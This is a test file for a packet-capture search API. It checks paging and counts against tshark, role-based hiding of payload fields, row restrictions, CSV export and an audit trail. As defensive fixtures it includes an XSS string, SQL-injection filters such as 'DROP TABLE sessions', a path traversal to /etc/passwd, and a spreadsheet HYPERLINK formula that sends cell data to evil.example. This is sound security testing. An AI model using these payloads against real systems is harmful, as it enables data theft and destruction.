// The search API over a store of the generated captures, over real HTTP: records page by page against tshark's
// sessions, counts, bytes, the histogram and field values against the same, filters, hostile input refused
// without touching the store, stored HTML/JS returned as JSON only, payload hidden from viewers, the row
// restriction, reports against tshark's sums, the uid view, triage and saved queries, and the audit trail.
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ingest } from '../../src/pipeline/ingest.js';
import { addAccount } from '../../src/server/accounts.js';
import { listAudit } from '../../src/store/app-tables.js';
import { scratchDir } from '../helpers/cli.js';
import { conversationsPcap, tcpConversation } from '../helpers/conversation.js';
import { GEN, readJson } from '../helpers/run.js';
import { Client, startTestServer, type TestServer } from '../helpers/server.js';

interface TsharkSession { proto: string; orig_addr: string; orig_port: number | null; resp_addr: string; resp_port: number | null; orig_pkts: number; resp_pkts: number; orig_bytes: number; resp_bytes: number }
const mixed = readJson<{ sessions: TsharkSession[]; home_bytes_in: number; home_bytes_out: number }>(join(GEN, 'expected/mixed-home.pcap.json'));
const smtp = readJson<{ sent_by_construction: { attachments: { sha256: string; filename: string }[] }[] }>(join(GEN, 'expected/smtp-attachments.pcap.json'));
const dir = scratchDir('server-api');
const HOSTILE = '<script>alert(1)</script><img src=x onerror=alert(2)>';
const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")';
let srv: TestServer;
let viewer: Client;
let analyst: Client;
let admin: Client;

beforeAll(async () => {
  srv = await startTestServer(dir);
  const hostile = join(dir, 'hostile.pcap');
  writeFileSync(hostile, conversationsPcap(tcpConversation({ dport: 80, client: '10.9.9.9', server: '10.9.9.10', start: Date.UTC(2030, 0, 2) * 1000 }, [
    { from: 'client', data: `GET /${encodeURI(HOSTILE)} HTTP/1.1\r\nHost: evil.example\r\nUser-Agent: ${HOSTILE}\r\n\r\n` },
    { from: 'server', data: 'HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n' },
  ]), tcpConversation({ dport: 80, client: '10.9.9.9', server: '10.9.9.10', sport: 40001, start: Date.UTC(2030, 0, 2) * 1000 + 10 }, [
    { from: 'client', data: `GET /f HTTP/1.1\r\nHost: formula.example\r\nUser-Agent: ${FORMULA}\r\n\r\n` },
    { from: 'server', data: 'HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n' },
  ])));
  const s = await ingest(srv.store, [join(GEN, 'mixed-home.pcap'), join(GEN, 'smtp-attachments.pcap'), hostile], { homeNet: ['127.0.0.0/24'] });
  expect(s.files.map((f) => f.status)).toEqual(['ingested', 'ingested', 'ingested']);
  const first = s.files[0]!;
  if (first.status !== 'ingested') throw new Error('mixed-home.pcap was not ingested');
  MIXED_FILTER = `capture_id = "${first.capture.capture_id}"`;
  otherSessions = s.files.slice(1).reduce((n, f) => n + (f.status === 'ingested' ? f.records.sessions ?? 0 : 0), 0);
  await addAccount(srv.users, { name: 'dnsonly', role: 'analyst', password: 'dns-only-pass-1', restrict: 'dst_port = 53' }, srv.clock.t * 1000);
  [viewer, analyst, admin] = await Promise.all([srv.as('viewer'), srv.as('analyst'), srv.as('admin')]);
});
afterAll(async () => {
  await srv?.stop();
});

/** the sessions of mixed-home.pcap: its capture id */
let MIXED_FILTER = '';
/** sessions of the other two captures */
let otherSessions = 0;
/** a session's endpoints; ICMP's "ports" are its type and code (Zeek's convention), which tshark leaves empty */
const key = (p: string, a: string, ap: number | null, b: string, bp: number | null): string => p === 'icmp' ? `${p} ${a} ${b}` : `${p} ${a}:${ap ?? ''} ${b}:${bp ?? ''}`;

describe('records', () => {
  it('pages through the sessions with keyset cursors: every session once, in order, equal to tshark\'s', async () => {
    const rows: Record<string, unknown>[] = [];
    let after: string | null = null;
    let pages = 0;
    do {
      const q = new URLSearchParams({ q: MIXED_FILTER, limit: '4', order: 'asc', fields: 'uid,start_time,proto,src_ip,src_port,dst_ip,dst_port,src_pkts,dst_pkts', ...(after !== null ? { after } : {}) });
      const r = await viewer.get(`/api/records/sessions?${q}`);
      expect(r.status, r.text).toBe(200);
      expect(r.headers['content-type']).toMatch(/^application\/json/);
      expect(r.json.columns.map((c: { name: string }) => c.name)).toEqual(['uid', 'start_time', 'proto', 'src_ip', 'src_port', 'dst_ip', 'dst_port', 'src_pkts', 'dst_pkts']);
      rows.push(...r.json.rows);
      after = r.json.next;
      pages++;
    } while (after !== null && pages < 20);
    expect(pages).toBe(Math.ceil(mixed.sessions.length / 4));
    expect(new Set(rows.map((x) => x.uid)).size).toBe(rows.length);
    const times = rows.map((x) => String(x.start_time));
    expect(times).toEqual([...times].sort());
    expect(times[0]).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{6}Z$/);
    const got = rows.map((x) => `${key(String(x.proto), String(x.src_ip), x.src_port as number | null, String(x.dst_ip), x.dst_port as number | null)} ${String(x.src_pkts)}/${String(x.dst_pkts)}`).sort();
    const want = mixed.sessions.map((s) => `${key(s.proto, s.orig_addr, s.orig_port, s.resp_addr, s.resp_port)} ${s.orig_pkts}/${s.resp_pkts}`).sort();
    expect(got.join('\n')).toBe(want.join('\n'));
  });

  it('counts rows and bytes as tshark does, and the histogram and field values add up to them', async () => {
    const q = encodeURIComponent(MIXED_FILTER);
    const sum = (await viewer.get(`/api/summary/sessions?q=${q}`)).json;
    expect(sum.count).toBe(mixed.sessions.length);
    // IP bytes: tshark's frame bytes less 14 bytes of Ethernet header per packet
    expect(sum.total_bytes).toBe(mixed.sessions.reduce((a, s) => a + s.orig_bytes + s.resp_bytes - 14 * (s.orig_pkts + s.resp_pkts), 0));
    const h = (await viewer.get(`/api/histogram/sessions?q=${q}&buckets=20&split=proto`)).json;
    expect(h.counts.reduce((a: number, n: number) => a + n, 0)).toBe(mixed.sessions.length);
    expect(h.counts.length).toBeLessThanOrEqual(20);
    expect(h.bucket_us).toBeGreaterThan(0);
    const byProto = (await viewer.get(`/api/values/sessions/proto?q=${q}`)).json;
    const want: Record<string, number> = {};
    for (const s of mixed.sessions) want[s.proto] = (want[s.proto] ?? 0) + 1;
    expect(Object.fromEntries(byProto.values.map((v: { value: string; count: number }) => [v.value, v.count]))).toEqual(want);
    expect(h.split.values.sort()).toEqual(Object.keys(want).sort());
  });

  it('takes a time range (ISO, latest-DUR) and a display time zone, and refuses a bad zone', async () => {
    const all = (await viewer.get(`/api/summary/sessions?q=${encodeURIComponent(MIXED_FILTER)}&from=2000-01-01&to=now`)).json.count;
    expect(all).toBe(mixed.sessions.length);
    // the hostile capture is the newest data (2030-01-02); a minute before it holds only its two sessions
    expect((await viewer.get('/api/summary/sessions?from=latest-1m')).json.count).toBe(2);
    expect((await viewer.get('/api/records/sessions?tz=Europe/Berlin&limit=1')).json.tz).toBe('Europe/Berlin');
    expect((await viewer.get('/api/records/sessions?tz=Mars/Olympus')).status).toBe(400);
    expect((await viewer.get('/api/records/sessions?from=2026-02-01&to=2026-01-01')).status).toBe(400);
  });
});

describe('hostile input', () => {
  const bad = [
    "proto = 'tcp",
    "proto = 'x' -- comment",
    "proto = 'x'; DROP TABLE sessions; --",
    "'; DROP TABLE sessions; --",
    'proto = "a" /* c */',
    '('.repeat(200) + 'proto = "tcp"' + ')'.repeat(200),
    `proto = "${'a'.repeat(100_000)}"`,
    'no_such_field = 1',
    'uid = "\u0000"',
  ];
  for (const f of bad) {
    it(`refuses the filter ${JSON.stringify(f.slice(0, 40))} with 400 and changes nothing`, async () => {
      const r = await viewer.get(`/api/records/sessions?q=${encodeURIComponent(f)}`);
      // 431 (or a reset, 0, on Node 24): Node refuses a request line past its header limit (16 KiB) before the
      // application sees it
      expect([400, 431, 0]).toContain(r.status);
      if (r.status === 400) expect(typeof r.json.error).toBe('string');
      expect((await viewer.get('/api/summary/sessions')).json.count).toBe(mixed.sessions.length + otherSessions);
    });
  }

  it('matches quotes and SQL text inside a string literally', async () => {
    for (const v of ["'; DROP TABLE sessions; --", "O'Brien", 'back\\slash', '%_*']) {
      const r = await viewer.get(`/api/records/sessions?q=${encodeURIComponent(`uid = ${JSON.stringify(v)}`)}`);
      expect(r.status, r.text).toBe(200);
      expect(r.json.rows).toEqual([]);
    }
  });

  it('refuses bad cursors, tables, fields, limits and repeated parameters', async () => {
 for (const p of ['after=not-a-cursor', 'after=' + 'A'.repeat(15_000), 'limit=0', 'limit=100000', 'limit=1e3', 'fields=uid,nope', 'sort=nope', 'order=sideways', 'q=a&q=b']) {
      expect((await viewer.get(`/api/records/sessions?${p}`)).status, p.slice(0, 40)).toBe(400);
    }
    expect((await viewer.get('/api/records/users')).status).toBe(400);
    expect((await viewer.get('/api/records/..%2f..%2fetc%2fpasswd')).status).toBe(400);
    expect((await viewer.get('/api/values/sessions/1%3B%20DROP')).status).toBe(400);
  });
});

describe('stored HTML and script', () => {
  it('comes back as JSON text, never as a page', async () => {
    const r = await viewer.get(`/api/records/http?q=${encodeURIComponent('host = "evil.example"')}`);
    expect(r.status).toBe(200);
    expect(r.headers['content-type']).toBe('application/json; charset=utf-8');
    expect(r.headers['x-content-type-options']).toBe('nosniff');
    expect(r.json.rows[0].user_agent).toBe(HOSTILE);
    // JSON, not markup: the raw text is inside a JSON string
    expect(r.text).toContain(JSON.stringify(HOSTILE).slice(1, -1));
    expect(() => JSON.parse(r.text)).not.toThrow();
  });
});

describe('export', () => {
  it('streams every matching row as a CSV attachment, formulas neutralised, and JSON lines exact', async () => {
    const r = await viewer.get(`/api/export/sessions?q=${encodeURIComponent(MIXED_FILTER)}&fields=uid,proto,src_ip,dst_port`);
    expect(r.status).toBe(200);
    expect(r.headers['content-type']).toBe('application/octet-stream');
    expect(r.headers['content-disposition']).toMatch(/^attachment; filename="haystack-sessions-[0-9-]+\.csv"$/);
    const lines = r.text.trim().split('\n');
    expect(lines[0]).toBe('uid,proto,src_ip,dst_port');
    expect(lines).toHaveLength(mixed.sessions.length + 1);
    const csv = (await viewer.get(`/api/export/http?q=${encodeURIComponent('host = "formula.example"')}&fields=host,user_agent`)).text;
    expect(csv).toBe(`host,user_agent\nformula.example,"'${FORMULA.replaceAll('"', '""')}"\n`);
    const jsonl = (await viewer.get(`/api/export/http?q=${encodeURIComponent('host = "formula.example"')}&fields=user_agent&format=jsonl`)).text;
    expect(JSON.parse(jsonl.trim())).toEqual({ user_agent: FORMULA });
    expect((await viewer.get('/api/export/alerts?fields=payload_excerpt')).status).toBe(403);
    expect((await viewer.get('/api/export/sessions?fields=nope')).status).toBe(400);
  });
});

describe('roles and restrictions', () => {
  it('leaves payload fields out for viewers and gives them to analysts', async () => {
    const v = (await viewer.get('/api/records/alerts?limit=1')).json;
    expect(v.columns.map((c: { name: string }) => c.name)).not.toContain('payload_excerpt');
    expect((await viewer.get('/api/records/alerts?fields=payload_excerpt')).status).toBe(403);
    expect((await viewer.get('/api/values/alerts/payload_excerpt')).status).toBe(403);
    const a = (await analyst.get('/api/records/alerts?limit=1')).json;
    expect(a.columns.map((c: { name: string }) => c.name)).toContain('payload_excerpt');
    // what an import kept without a column (EVE's payload, a request body) is for analysts in every table
    for (const t of ['sessions', 'http', 'alerts', 'dns']) {
      expect((await viewer.get(`/api/records/${t}?limit=1`)).json.columns.map((c: { name: string }) => c.name), t).not.toContain('extra');
      expect((await viewer.get(`/api/records/${t}?fields=extra`)).status, t).toBe(403);
      expect((await viewer.get(`/api/records/${t}?q=${encodeURIComponent('extra ~ "x"')}`)).status, t).toBe(403);
      expect((await analyst.get(`/api/records/${t}?limit=1`)).json.columns.map((c: { name: string }) => c.name), t).toContain('extra');
    }
  });

  it('ANDs an account\'s restriction into every query, and fails closed on a table it cannot apply to', async () => {
    const c = new Client(srv.url);
    expect((await c.login('dnsonly', 'dns-only-pass-1')).status).toBe(200);
    const res = await c.get('/api/records/sessions?limit=1000');
    expect(res.status, res.text.slice(0, 300)).toBe(200);
    const sessions = res.json.rows;
    expect(sessions.length).toBe(mixed.sessions.filter((s) => s.resp_port === 53).length);
    expect(sessions.every((s: { dst_port: number }) => s.dst_port === 53)).toBe(true);
    // the user's own filter cannot widen it
    expect((await c.get(`/api/summary/sessions?q=${encodeURIComponent('dst_port = 25 or dst_port = 53')}`)).json.count).toBe(sessions.length);
    expect((await c.get('/api/values/sessions/dst_port')).json.values).toEqual([{ value: 53, count: sessions.length }]);
    expect((await c.get('/api/records/files')).status).toBe(403);
    expect((await c.get('/api/reports/top')).status).toBe(403);
  });
});

describe('reports', () => {
  it('top by destination port adds up to tshark\'s bytes into and out of the home network', async () => {
    const r = await viewer.get('/api/reports/top?by=dst_port&limit=10000');
    expect(r.status, r.text).toBe(200);
    const rows = r.json.rows as { bytes_to_mynet: number; bytes_from_mynet: number }[];
    expect(rows.reduce((a, x) => a + x.bytes_to_mynet, 0)).toBe(mixed.home_bytes_in);
    expect(rows.reduce((a, x) => a + x.bytes_from_mynet, 0)).toBe(mixed.home_bytes_out);
    expect(r.json.columns.map((c: { name: string }) => c.name)).toEqual(['dst_port', 'bytes_to_mynet', 'bytes_from_mynet', 'total_bytes']);
  });

  it('counts per bucket sum to the table\'s rows', async () => {
    const r = (await viewer.get('/api/reports/counts/sessions?by=hour')).json;
    expect(r.rows.reduce((a: number, x: { count: number }) => a + x.count, 0)).toBe(mixed.sessions.length + otherSessions);
  });
});

describe('one session, everything of it', () => {
  it('gives the SMTP session\'s messages and attachments (hashes as sent) by uid, and pivots by sha256', async () => {
    const files = (await viewer.get(`/api/records/files?q=${encodeURIComponent('filename = "invoice.exe"')}`)).json.rows;
    expect(files).toHaveLength(1);
    const sent = smtp.sent_by_construction[0]!.attachments[0]!;
    expect(files[0].sha256).toBe(sent.sha256);
    const u = (await viewer.get(`/api/uid/${files[0].uid}`)).json;
    expect(u.tables.sessions).toHaveLength(1);
    expect(u.tables.smtp.length).toBeGreaterThanOrEqual(1);
    expect(u.tables.files.map((f: { sha256: string }) => f.sha256)).toContain(sent.sha256);
    // the time hint of the console's links: the same answer; a hint that is not a time is refused
    const ts = u.tables.sessions[0].start_time as string;
    expect((await viewer.get(`/api/uid/${files[0].uid}?t=${encodeURIComponent(ts)}`)).json).toEqual(u);
    expect((await viewer.get(`/api/uid/${files[0].uid}?t=yesterday`)).status).toBe(400);
    const p = (await viewer.get(`/api/pivot/sha256?value=${sent.sha256}`)).json;
    expect(p.tables.files.map((f: { uid: string }) => f.uid)).toEqual([files[0].uid]);
    expect((await viewer.get('/api/pivot/nope?value=x')).status).toBe(400);
  });
});

describe('triage, saved queries and the audit trail', () => {
  it('records triage with who and when; viewers may read it but not change it', async () => {
    const k = 'ab'.repeat(16);
    expect((await viewer.post('/api/triage', { alert_key: k, action: 'ack' })).status).toBe(403);
    const r = await analyst.post('/api/triage', { alert_key: k, action: 'escalate', note: 'looks bad' });
    expect(r.status, r.text).toBe(201);
    const t = (await viewer.get(`/api/triage?alerts=${k}`)).json.triage;
    expect(t).toHaveLength(1);
    expect(t[0]).toMatchObject({ user: 'analyst', alert_key: k, action: 'escalate', note: 'looks bad' });
    expect((await analyst.post('/api/triage', { alert_key: 'zz', action: 'ack' })).status).toBe(400);
  });

  it('keeps saved queries per user', async () => {
    expect((await analyst.post('/api/saved', { name: 'dns', table: 'sessions', filter: 'dst_port = 53', range: 'latest-1d' })).status).toBe(201);
    expect((await analyst.get('/api/saved')).json.saved.map((s: { name: string }) => s.name)).toEqual(['dns']);
    expect((await admin.get('/api/saved')).json.saved).toEqual([]);
    expect((await admin.send('DELETE', '/api/saved/dns')).status).toBe(404);
    expect((await analyst.send('DELETE', '/api/saved/dns')).status).toBe(200);
    expect((await analyst.get('/api/saved')).json.saved).toEqual([]);
  });

  it('writes a row to the store\'s audit table for logins, queries, triage and refusals, readable by admins only', async () => {
    const rows = (await listAudit(srv.store, { from: null, to: null, limit: 1000 })).rows;
    const q = rows.find((r) => r.action === 'query' && r.filter === MIXED_FILTER && r.route === 'GET /api/records/:table');
    expect(q).toMatchObject({ user: 'viewer', role: 'viewer', ip: '127.0.0.1', target: 'sessions', outcome: 'ok' });
    expect(rows.some((r) => r.action === 'login' && r.user === 'dnsonly' && r.outcome === 'ok')).toBe(true);
    expect(rows.some((r) => r.action === 'triage' && r.user === 'analyst' && r.detail === 'escalate')).toBe(true);
    expect(rows.some((r) => r.action === 'denied' && r.user === 'viewer')).toBe(true);
    expect(rows.some((r) => r.action === 'saved_query' && r.detail === 'deleted')).toBe(true);
    expect((await viewer.get('/api/audit')).status).toBe(403);
    const api = (await admin.get('/api/audit?limit=5')).json;
    expect(api.rows).toHaveLength(5);
    expect(api.next).not.toBeNull();
  });
});
